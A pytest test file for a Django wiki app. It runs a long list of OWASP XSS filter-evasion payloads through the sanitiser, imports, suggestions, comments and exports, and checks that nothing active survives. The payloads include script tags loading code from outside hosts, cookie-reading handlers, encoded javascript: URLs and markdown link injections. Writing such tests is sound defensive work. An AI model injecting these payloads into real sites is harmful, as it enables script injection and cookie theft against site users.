"""Nothing active gets in or out: the vectors of OWASP's XSS filter evasion list through every door that takes words."""

import html as html_entities
import io
import re
import zipfile
from html.parser import HTMLParser

import pytest

from wiki.kinds import Kind
from wiki.models import Suggestion
from wiki.parsing import FileError, Node, parse_file, parse_pasted
from wiki.parsing.html import sanitise
from wiki.services import create_document, submit_suggestion
from wiki.services.comments import submit_comment

VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29\">x</a>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29`",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<HTML xmlns:t=\"urn:schemas-microsoft-com:time\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(1)</SCRIPT>\">",
    "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">XSS</a>",
    "<video><source onerror=\"alert(1)\">",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "[链接](javascript:alert(1))",
    "![图](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "{{7*7}}{% debug %}",
]  # fmt: skip

ACTIVE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "frame",
    "frameset",
    "svg",
    "math",
    "bgsound",
    "xml",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "xlink:href"}
ALL = "\n\n".join(VECTORS)


class Active(HTMLParser):
    """Collects what a browser would run: foreign scripts, handlers, script addresses, foreign frames."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        own = tag == "script" and (given.get("src") or "").startswith(("/static/", "/admin/jsi18n/"))
        data = tag == "script" and given.get("type") == "application/json"
        if tag in ACTIVE_TAGS and not (own or data or tag == "svg"):
            self.found.append((tag, attrs))
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]+", "", html_entities.unescape(value or "")).lower()
            if name.startswith("on") or (
                name in URL_ATTRIBUTES and re.match(r"(?:java|vb|live)script:|data:text", address)
            ):
                self.found.append((tag, name, value))
            if "xss" in address and name in URL_ATTRIBUTES:
                self.found.append((tag, name, value))

    handle_startendtag = handle_starttag


def active(page):
    parser = Active()
    parser.feed(page)
    parser.close()
    return parser.found


def test_the_checker_sees_what_is_active():
    seen = sum(bool(active(vector)) for vector in VECTORS)
    assert seen > 45


@pytest.mark.parametrize("vector", VECTORS)
def test_sanitised_html_is_inert(vector):
    clean = sanitise(f"<p>办法</p>{vector}<p>第一条 好。</p>")
    assert active(clean) == []
    names = set(re.findall(r"<\s*/?\s*([a-zA-Z0-9:]+)", clean))
    assert not names & (
        ACTIVE_TAGS | {"img", "style", "link", "meta", "input", "form", "button", "video"} - {"form"}
    )
    assert not re.search(r"<[^>]*\s(?:on\w+|href|src|class|id)\s*=", clean)


@pytest.mark.django_db
@pytest.mark.parametrize("door", ["html", "md", "txt", "json"])
def test_imported_vectors_are_words_on_every_page_and_in_every_file(client, door):
    import json

    if door == "html":
        parsed = parse_pasted("", "".join(f"<p>条款</p>{vector}<p>好。</p>" for vector in VECTORS))
    elif door == "json":
        clauses = [{"depth": 0, "kind": "item", "label": vector[:40], "text": vector} for vector in VECTORS]
        given = {"format": "wiki-document", "schema": 1, "title": VECTORS[0][:80], "clauses": clauses}
        parsed = parse_file("a.json", json.dumps(given).encode())
    else:
        parsed = parse_file(f"a.{door}", f"办法\n\n{ALL}".encode())
    document = create_document(
        actor=None, slug="evil", title=(parsed.title or VECTORS[0])[:200], nodes=parsed.nodes
    )
    document.stage = "open"
    document.save(update_fields=["stage"])
    check_everything(client, document)


@pytest.mark.django_db
def test_suggested_and_commented_vectors_are_words(
    client, settings, document, make_user, clause_of, moderator
):
    settings.WIKI_SUGGESTIONS_SHOWN = "at_once"
    settings.WIKI_SUGGESTIONS_PER_HOUR = 1000
    row = clause_of(document)
    for start in range(0, len(VECTORS), 12):
        words = "\n".join(VECTORS[start : start + 12])[:1000]
        citizen = make_user(f"citizen{start}")  # one person may have five suggestions waiting
        submit_suggestion(
            author=citizen,
            clause=row.clause,
            text=f"{row.text}\n{words}",
            reason=words,
            base_version=document.version,
        )
        submit_comment(author=citizen, clause=row.clause, text=words, base_version=document.version)
    Suggestion.objects.update(held_by="")
    check_everything(client, document, f"/wiki/{document.slug}/clauses/{row.clause_id}/")
    client.force_login(moderator)
    assert (
        active(
            client.get(f"/admin/wiki/clauses/{row.clause_id}/")
            .content.decode()
            .replace("javascript:void(0)", "")
        )
        == []
    )


def check_everything(client, document, *more):
    clause = document.clauses.first()
    addresses = [
        f"/wiki/{document.slug}/",
        f"/wiki/{document.slug}/clauses/{clause.pk}/",
        f"/wiki/{document.slug}/versions/1/?full=1",
        f"/wiki/{document.slug}/export/html/",
        f"/wiki/{document.slug}/export/html/?since=1",
        *more,
    ]
    for address in addresses:
        response = client.get(address)
        assert response.status_code == 200, address
        assert active(response.content.decode()) == [], address
    written = client.get(f"/wiki/{document.slug}/export/md/").content.decode()
    body = re.sub(r"<!-- (?:clause|wiki-document) .*? -->", "", written.split("\n---\n", 1)[1])
    assert "<" not in body
    assert not re.search(r"(?<!\\)\]\(", body)
    response = client.get(f"/wiki/{document.slug}/export/json/")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    word = client.get(f"/wiki/{document.slug}/export/docx/").content
    with zipfile.ZipFile(io.BytesIO(word)) as archive:
        xml = archive.read("word/document.xml").decode()
        assert not re.search(
            r"<(?:w:object|w:hyperlink|script|v:|o:|w:altChunk|w:fldSimple|w:instrText)", xml
        )
        assert not any(
            "External" in archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")
        )


def test_a_clause_marker_in_the_words_opens_no_clause():
    tree = [
        Node(Kind.PARAGRAPH, "", '<!-- clause 0 heading "x" -->'),
        Node(Kind.PARAGRAPH, "", "--> <!-- wiki-document 1; -->"),
    ]
    from wiki.exporting import Contents, Entry, as_markdown
    from wiki.text.diff import Span

    entries = [
        Entry(n, None, 0, node.kind, "", node.text, "", (), (Span("same", node.text),))
        for n, node in enumerate(tree)
    ]
    written = as_markdown(Contents("s", "题", 1, entries=entries))
    assert [node.text for _, node in parse_file("a.md", written.encode()).walk()] == [
        node.text for node in tree
    ]


def test_a_formula_is_kept_as_words():
    parsed = parse_file("a.txt", '办法\n=HYPERLINK("http://x","y")\n@SUM(1)'.encode())
    assert [node.text for _, node in parsed.walk()] == ['=HYPERLINK("http://x","y")', "@SUM(1)"]


@pytest.mark.parametrize(
    "text", ["[1]", '{"format": "x"}', "{", '{"format": "wiki-document", "schema": 2}', "[" * 100_000]
)
def test_foreign_json_is_refused(text):
    with pytest.raises(FileError):
        parse_file("a.json", text.encode())
